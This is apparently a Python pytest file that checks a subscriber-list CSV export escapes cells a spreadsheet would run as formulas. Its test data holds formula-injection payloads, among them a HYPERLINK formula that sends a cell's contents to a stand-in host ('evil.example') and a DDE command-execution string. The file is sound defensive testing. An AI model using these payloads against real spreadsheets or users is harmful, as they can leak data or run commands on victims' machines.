"""``subscribers export`` writes no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from kcrush_feeds.csvcells import neutralise, restore
from tests.support.project import Project

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "Plain Name",
    "O'Brien",
]


def test_exported_cells_never_start_a_formula(project: Project) -> None:
    names = [n for n in HOSTILE_NAMES if "\r" not in n]  # a name holds no line break
    rows = ["email,name,categories,status"]
    for i, name in enumerate(names):
        cell = '"' + name.replace('"', '""') + '"'
        rows.append(f"user{i}@example.org,{cell},,active")
    rows.append("-dash@example.org,Dash,,active")
    project.write("in.csv", "\n".join(rows) + "\n")
    result = project.run("subscribers", "import", str(project.dir / "in.csv"))
    assert result.exit_code == 0, result.output
    exported = project.run("subscribers", "export").output
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
    assert "'=HYPERLINK(" in exported and "'-dash@example.org" in exported
    # Importing the export changes nothing: the names and addresses are read back as stored.
    project.write("out.csv", exported)
    result = project.run("subscribers", "import", str(project.dir / "out.csv"))
    assert result.exit_code == 0, result.output
    assert f"0 added, 0 updated, {len(names) + 1} unchanged" in result.output
    assert project.run("subscribers", "export").output == exported
    listed = json.loads(project.run("subscribers", "list", "--json").output)
    # As a spreadsheet reads cells: a "'" before a formula character is the escape, and
    # names are stored trimmed.
    expected = {restore(n).strip() for n in names} | {"Dash"}
    assert {s["name"] for s in listed} == expected
    assert "=already quoted" in expected and "=1+1" in expected


@pytest.mark.parametrize("value", [*HOSTILE_NAMES, "", "'", "''=x", "'''-"])
def test_neutralise_and_restore_are_exact_inverses(value: str) -> None:
    safe = neutralise(value)
    assert not safe or safe[0] not in "=+-@\t\r"
    assert restore(safe) == value
